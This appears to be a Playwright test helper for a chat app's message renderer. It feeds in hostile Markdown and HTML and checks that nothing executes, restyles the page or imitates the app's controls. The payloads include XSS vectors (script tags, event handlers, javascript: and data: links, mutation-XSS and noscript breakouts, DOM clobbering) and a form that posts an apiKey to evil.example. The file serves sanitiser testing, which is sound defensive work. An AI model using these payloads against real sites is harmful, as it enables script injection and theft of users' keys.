import { expect, type Locator, type Page } from '@playwright/test';

/**
 * Hostile Markdown and HTML: every payload that could run sets `window.__pwned` or calls alert, so
 * anything that executes is seen; the rest try to restyle, cover, or pose as the page.
 */
export const hostileMarkdown = [
  'Hostile content check.',
  '<script>alert(window.__pwned = "script")</script>',
  '<img src=x onerror="alert(window.__pwned = \'img\')">',
  '<svg onload="alert(window.__pwned = \'svg\')"><circle r="40" /></svg>',
  '<iframe srcdoc="<script>parent.__pwned = \'iframe\'</script>"></iframe>',
  '[javascript link](javascript:alert(window.__pwned="link")) [cased link](JaVaScRiPt:alert(1)) [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vbscript link](vbscript:msgbox(1))',
  '<a href="javascript:alert(window.__pwned=\'anchor\')">html anchor</a> <a href="java&#x09;script:alert(1)">tab anchor</a> <a href="https://example.com/" target="_self" onclick="alert(1)">plain anchor</a>',
  '![image link](javascript:alert(window.__pwned="image"))',
  '<style>body { display: none !important }</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:crimson">full-page cover</div>',
  '<form action="https://evil.example/steal" method="post"><input name="apiKey" value="sk-"><button formaction="javascript:alert(1)">Submit</button></form>',
  '<details open ontoggle="alert(window.__pwned=\'details\')"><summary>details</summary>inside</details>',
  // Ids the app's own labels point at: a reply must not take the composer's or the prompt's name.
  '<a id="composer-message" name="message">composer clobber</a> <span id="draft-prompt">prompt clobber</span> <label for="composer-message">label clobber</label>',
  '<div role="button" aria-label="Send" tabindex="0">fake send</div>',
  'Autolinks: <https://example.com/autolink> and https://example.org/bare and <mailto:someone@example.com>',
  '&lt;script&gt;alert(1)&lt;/script&gt; is only text',
  '<noscript><p title="</noscript><img src=x onerror=alert(window.__pwned=\'noscript\')>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(window.__pwned=\'mxss\')">',
].join('\n\n');

/** An open dialog is laid out over the page: in a short reply, over the composer. */
export const coveringDialog = `<dialog open>an open dialog${'<br>'.repeat(40)}that is tall</dialog>`;

/** What the rendered reply of `hostileMarkdown` must still say, as plain text. */
export const hostileMarkdownVisibleText = ['Hostile content check.', 'html anchor', 'javascript link', 'full-page cover', '<script>alert(1)</script> is only text'];

/** Elements no message may contain: they run, load, submit, restyle, or imitate the app's controls. */
const unsafeTags = ['script', 'iframe', 'frame', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'input', 'button', 'textarea', 'select', 'svg', 'math', 'img', 'video', 'audio', 'dialog'];

/** The app's own tools in a message (its Copy buttons). No reply can write a <button> at all: the sanitiser drops the tag. */
const appTools = 'button[data-message-tool]';

/** Attributes by which content could restyle itself, or take the names and roles of the app's own controls. */
const borrowedAttributes = ['style', 'id', 'name', 'for', 'role', 'tabindex'];

interface Watched {
  reportHostile: (finding: string) => void;
}

/**
 * Watches a page for its whole life, across navigations, so a payload that is live only for a
 * moment (while a reply streams) is caught too. The init script runs outside the page's CSP.
 */
export async function watchPage(page: Page): Promise<{ expectNothingRan: () => Promise<void> }> {
  const findings: string[] = [];
  page.on('dialog', (dialog) => {
    findings.push(`${dialog.type()} dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('reportHostile', (finding: string) => findings.push(finding));
  await page.addInitScript(({ tags, tools }: { tags: string[]; tools: string }) => {
    const w = window as unknown as Watched;
    const report = (finding: string) => w.reportHostile(`${finding} on ${location.pathname}`);
    Object.defineProperty(window, '__pwned', { set: (value: unknown) => report(`window.__pwned = ${String(value)}`) });
    // The sanitiser parses hostile HTML in a detached document, where Chromium refuses inline handlers
    // and <style> and reports it to the document: expected, since nothing of it reaches the page.
    // A refusal for an element in the page means hostile markup was inserted there.
    document.addEventListener('securitypolicyviolation', (event) => {
      const detachedParse = event.target === document && ['script-src-attr', 'style-src-elem'].includes(event.violatedDirective);
      if (!detachedParse) report(`CSP refused ${event.violatedDirective} ${event.blockedURI} for <${(event.target as Node).nodeName}>`);
    });
    const inspect = (element: Element) => {
      if (element.matches(tools)) return;
      const tag = element.tagName.toLowerCase();
      for (const attribute of element.attributes) if (/^on/i.test(attribute.name)) report(`<${tag} ${attribute.name}> in the page`);
      if (element.closest('[role="log"] article') && tags.includes(tag)) report(`<${tag}> in a message`);
      const protocol = (element as Partial<HTMLAnchorElement>).protocol;
      if (protocol && /^(javascript|data|vbscript):$/i.test(protocol)) report(`<${tag}> to ${protocol} in the page`);
    };
    new MutationObserver((records) => {
      for (const record of records) {
        if (record.type === 'attributes' && record.target instanceof Element) inspect(record.target);
        for (const node of record.addedNodes) {
          if (!(node instanceof Element)) continue;
          inspect(node);
          node.querySelectorAll('*').forEach(inspect);
        }
      }
    }).observe(document, { subtree: true, childList: true, attributes: true });
  }, { tags: unsafeTags, tools: appTools });

  return {
    async expectNothingRan() {
      // Lets a report sent just before this call arrive.
      await page.evaluate(() => undefined);
      expect(findings, 'dialogs, __pwned, unsafe elements and CSP refusals in the page').toEqual([]);
    },
  };
}

/** Checks rendered content as it stands: nothing that runs, loads, submits, leaves unsafely, or poses as the app. */
export async function expectInert(content: Locator): Promise<void> {
  const problems = await content.evaluate((root, { tags, borrowed, tools }) => {
    const found: string[] = [];
    for (const element of root.querySelectorAll('*')) {
      if (element.matches(tools)) continue;
      const tag = element.tagName.toLowerCase();
      if (tags.includes(tag)) found.push(`<${tag}>`);
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name)) found.push(`<${tag} ${attribute.name}>`);
        if (borrowed.includes(attribute.name) || attribute.name.startsWith('aria-')) found.push(`<${tag} ${attribute.name}="${attribute.value}">`);
      }
      if (element instanceof HTMLAnchorElement) {
        if (element.href && !/^(https?|mailto):$/.test(element.protocol)) found.push(`link to ${element.protocol}`);
        const rel = element.rel.split(/\s+/);
        if (element.target === '_blank' && !(rel.includes('noopener') && rel.includes('noreferrer'))) found.push(`link to a new tab with rel="${element.rel}"`);
      }
    }
    return found;
  }, { tags: unsafeTags, borrowed: borrowedAttributes, tools: appTools });
  expect(problems).toEqual([]);
}

/** The control is visible and what a click at its centre reaches: nothing covers it. */
export async function expectUncovered(control: Locator): Promise<void> {
  await expect(control).toBeVisible();
  const reached = await control.evaluate((element) => {
    const box = element.getBoundingClientRect();
    const hit = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    return hit !== null && (hit === element || element.contains(hit));
  });
  expect(reached).toBe(true);
}
